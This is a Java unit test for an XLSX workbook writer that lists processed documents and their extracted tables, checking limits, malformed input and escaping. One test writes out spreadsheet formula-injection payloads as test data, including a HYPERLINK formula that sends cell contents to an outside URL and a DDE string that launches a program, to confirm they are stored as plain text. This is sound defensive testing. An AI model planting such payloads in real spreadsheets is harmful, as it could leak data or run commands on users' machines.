package io.bindery.api.result.workbook;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.bindery.api.testing.Xlsx;
import io.bindery.common.job.DocumentId;
import io.bindery.common.job.DocumentState;
import io.bindery.common.job.Failure;
import io.bindery.common.job.FailureCode;
import io.bindery.db.query.DocumentView;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.FilterInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.Collections;
import java.util.List;
import java.util.UUID;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class JobWorkbookTest {

    private static final WorkbookLimits SMALL = new WorkbookLimits(2, 10, 40, 200);

    private final ByteArrayOutputStream out = new ByteArrayOutputStream();
    private JobWorkbook workbook = new JobWorkbook(out);

    @Test
    void listsEveryDocument() throws IOException {
        workbook.add(document(1, "a/report.pdf"));
        workbook.add(failed(2, "bad.pdf"));

        Xlsx read = finished();

        assertThat(read.names()).containsExactly("Documents");
        assertThat(row(read, 1))
                .containsExactly("Path", "State", "Pages", "Bytes", "Failure", "Failure detail", "Warnings");
        assertThat(row(read, 2)).containsExactly("a/report.pdf", "SUCCEEDED", "3", "1000", "", "", "1");
        assertThat(row(read, 3))
                .containsExactly("bad.pdf", "FAILED", "", "1000", "DAMAGED", "The file is damaged.", "0");
        assertThat(read.cell("Documents", "A2").type()).isEqualTo("inlineStr");
        assertThat(read.cell("Documents", "C2").type()).isEqualTo("n");
        assertThat(row(read, 5)).containsOnly("");
    }

    @Test
    void givesEachTableASheet() throws IOException {
        DocumentView document = document(1, "a/report.pdf");
        workbook.add(document);
        workbook.addTables(
                document,
                json(table(1, 3, cell(1, 1, "Year"), cell(1, 2, "Sum"), cell(2, 1, "2024")) + ","
                        + table(2, 4, cell(2, 3, "x"))));

        Xlsx read = finished();

        assertThat(read.names()).containsExactly("Documents", "1 report.pdf p3 t1", "1 report.pdf p4 t2");
        assertThat(read.sheet("1 report.pdf p3 t1").keySet()).containsExactly("A1", "B1", "A2");
        assertThat(read.cell("1 report.pdf p3 t1", "A2")).isEqualTo(new Xlsx.Cell("inlineStr", "2024", false));
        assertThat(read.value("1 report.pdf p4 t2", "C2")).isEqualTo("x");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://example.com/?\"&A1,\"click\")",
                "+1",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1)",
                "\t=1+1",
                "\n=1+1",
                "{=1}"
            })
    void writesAsTextWhateverLooksLikeAFormula(String text) throws IOException {
        DocumentView document = document(1, text);
        workbook.add(document);
        workbook.addTables(document, json(table(1, 1, cell(1, 1, text))));

        Xlsx read = finished();

        String sheet = read.names().get(1);
        assertThat(read.cell(sheet, "A1")).isEqualTo(new Xlsx.Cell("inlineStr", text, false));
        assertThat(read.cell("Documents", "A2")).isEqualTo(new Xlsx.Cell("inlineStr", text, false));
        assertThat(read.sheets().values())
                .allSatisfy(cells -> assertThat(cells.values()).noneMatch(Xlsx.Cell::formula));
    }

    @Test
    void writesNothingThatBreaksTheFile() throws IOException {
        DocumentView document = document(1, "\u0001</t>\uD800<&\">'.pdf");
        workbook.add(document);
        workbook.addTables(
                document,
                json(table(
                        1,
                        1,
                        cell(1, 1, "a\u0000b\uD83D\uDE00 </t></is><f>1</f>"),
                        cell(1, 2, "_x0041_ and _x41_"),
                        cell(1, 3, "y".repeat(40_000)))));

        Xlsx read = finished();

        String sheet = read.names().get(1);
        assertThat(sheet).isEqualTo("1 t>_<&\">'.pdf p1 t1");
        assertThat(read.cell(sheet, "A1"))
                .isEqualTo(new Xlsx.Cell("inlineStr", "ab\uD83D\uDE00 </t></is><f>1</f>", false));
        assertThat(read.value(sheet, "B1")).isEqualTo("_x005F_x0041_ and _x41_");
        assertThat(read.value(sheet, "C1")).hasSize(32_767);
    }

    @Test
    void tellsWhichTablesThereAreNoSheetsFor() throws IOException {
        workbook = new JobWorkbook(out, SMALL);
        DocumentView document = document(1, "a.pdf");
        workbook.add(document);
        workbook.addTables(
                document,
                json(IntStream.rangeClosed(1, 5)
                        .mapToObj(i -> table(i, 1, cell(1, 1, "x")))
                        .collect(Collectors.joining(","))));

        Xlsx read = finished();

        assertThat(read.names()).containsExactly("Documents", "1 a.pdf p1 t1", "1 a.pdf p1 t2");
        assertThat(row(read, 4))
                .startsWith("3 tables were left out: a workbook has at most 2 sheets of tables.", "", "");
    }

    @Test
    void tellsWhichTablesThereAreNoRowsFor() throws IOException {
        workbook = new JobWorkbook(out, SMALL);
        DocumentView document = document(1, "a.pdf");
        workbook.addTables(
                document,
                json(table(1, 1, cell(7, 1, "x")) + "," + table(2, 1, cell(4, 1, "x")) + ","
                        + table(3, 2, cell(3, 1, "x"))));

        Xlsx read = finished();

        assertThat(read.names()).containsExactly("Documents", "1 a.pdf p1 t1", "1 a.pdf p2 t3");
        assertThat(read.value("Documents", "A3"))
                .isEqualTo("1 table was left out: a workbook has at most 10 rows of tables.");
    }

    @Test
    void leavesOutTablesThatWouldTakeTooMuchMemory() throws IOException {
        DocumentView document = document(1, "a.pdf");
        workbook.addTables(
                document,
                json(String.join(
                        ",",
                        table(1, 1, cell(1_048_576, 16_384, "far")),
                        table(2, 1, cell(1_048_577, 1, "too far")),
                        table(3, 1, cell(0, 1, "nowhere")),
                        table(4, 1, cell(1, Integer.MAX_VALUE, "too far")),
                        table(
                                5,
                                1,
                                Collections.nCopies(5, cell(1, 1, "z".repeat(900_000)))
                                        .toArray(String[]::new)),
                        table(6, 1, cell(1, 1, "good"), cell(2, 1, "cell")))));

        Xlsx read = finished();

        assertThat(read.names()).containsExactly("Documents", "1 a.pdf p1 t6");
        assertThat(read.value("Documents", "A3")).isEqualTo("5 tables were left out: too large for a sheet.");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "{}",
                "[",
                "[1]",
                "null",
                "[{\"cells\":{}}]",
                "[{\"cells\":[[]]}]",
                "[{\"page\":\"one\"}]",
                "[{\"page\":99999999999}]",
                "[{\"cells\":[{\"text\":{\"row\":1}}]}]",
                "not JSON"
            })
    void tellsWhoseTablesCannotBeRead(String json) throws IOException {
        DocumentView document = document(1, "a.pdf");
        workbook.addTables(document, bytes(json));

        Xlsx read = finished();

        assertThat(read.names()).containsExactly("Documents");
        assertThat(read.value("Documents", "A3")).isEqualTo("The tables of 1 document could not all be read.");
    }

    @Test
    void doesNotTakeTroubleOfTheSourceForBadTables() {
        InputStream ended = new FilterInputStream(InputStream.nullInputStream()) {
            @Override
            public int read(byte[] target, int offset, int length) throws IOException {
                throw new IOException("the lease has ended");
            }
        };

        assertThatThrownBy(() -> workbook.addTables(document(1, "a.pdf"), ended))
                .isInstanceOf(IOException.class)
                .hasMessage("the lease has ended");
    }

    private Xlsx finished() throws IOException {
        workbook.finish();
        return Xlsx.of(out.toByteArray());
    }

    private static List<String> row(Xlsx read, int number) {
        return "ABCDEFG"
                .chars()
                .mapToObj(column -> read.value("Documents", (char) column + "" + number))
                .toList();
    }

    private static InputStream json(String tables) {
        return bytes("[" + tables + "]");
    }

    private static InputStream bytes(String text) {
        return new ByteArrayInputStream(text.getBytes(StandardCharsets.UTF_8));
    }

    private static String table(int number, int page, String... cells) {
        return "{\"table\":" + number + ",\"page\":" + page
                + ",\"kind\":\"drawn\",\"rows\":1,\"columns\":1,\"cells\":[" + String.join(",", cells)
                + "],\"csv\":\"table-0001.csv\"}";
    }

    private static String cell(int row, int column, String text) {
        String escaped = text.chars()
                .mapToObj(c -> c < ' ' || c == '"' || c == '\\' || c > '~' ? "\\u%04x".formatted(c) : "" + (char) c)
                .collect(Collectors.joining());
        return "{\"row\":" + row + ",\"column\":" + column + ",\"rowSpan\":1,\"columnSpan\":1,\"text\":\"" + escaped
                + "\",\"box\":[1,2,3,4]}";
    }

    private static DocumentView document(int ordinal, String path) {
        return view(ordinal, path, DocumentState.SUCCEEDED, 3, null, List.of("Page 2 was left out."));
    }

    private static DocumentView failed(int ordinal, String path) {
        var failure = new Failure(FailureCode.DAMAGED, "The file is damaged.");
        return view(ordinal, path, DocumentState.FAILED, null, failure, List.of());
    }

    private static DocumentView view(
            int ordinal,
            String path,
            DocumentState state,
            @Nullable Integer pages,
            @Nullable Failure failure,
            List<String> warnings) {
        return new DocumentView(
                new DocumentId(UUID.randomUUID()),
                ordinal,
                path,
                1000,
                state,
                1,
                3,
                pages,
                0,
                failure,
                warnings,
                null,
                null,
                List.of());
    }
}
